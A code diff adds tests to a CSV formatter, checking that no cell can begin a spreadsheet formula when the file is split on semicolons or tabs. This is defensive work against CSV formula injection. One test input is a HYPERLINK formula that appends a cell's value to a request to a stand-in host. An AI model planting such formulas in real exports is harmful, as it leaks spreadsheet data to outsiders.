@@ -25,6 +25,25 @@ test.each([
   expect(cell.replace(/^"/, '')).toMatch(/^'/)
 })
 
+/** As a spreadsheet reads it whose cells are separated otherwise: quotes inside a cell mean nothing. */
+test.each([
+  [';', 'a;=1+1'],
+  [';', 'a; "=1+1'],
+  [';', '";=HYPERLINK("http://host.example?"&A1)'],
+  ['\t', 'a\t=1+1'],
+  ['\t', 'a\t\t@SUM(A1)'],
+  [';', 'first line\n=1+1'],
+  [';', 'x;+1;-1;＝1'],
+])('split at %j, no piece of %j is a formula', (separator, text) => {
+  const file = formatCsv(['name', 'message'], [['Visitor', text]])
+  const pieces = file.split(/\r\n|\n/).flatMap((line) => line.split(separator))
+  for (const piece of pieces) expect(piece.replace(/^["\s]*/, '')).not.toMatch(/^[=+\-@＝＋－＠]/u)
+})
+
+test('semicolons and tabs are quoted', () => {
+  expect(formatCsv(['h'], [['a;b'], ['a\tb']])).toBe('h\r\n"a;b"\r\n"a\tb"\r\n')
+})
+
 test('a number is a number', () => {
   expect(formatCsv(['h'], [[-1]])).toBe('h\r\n-1\r\n')
 })
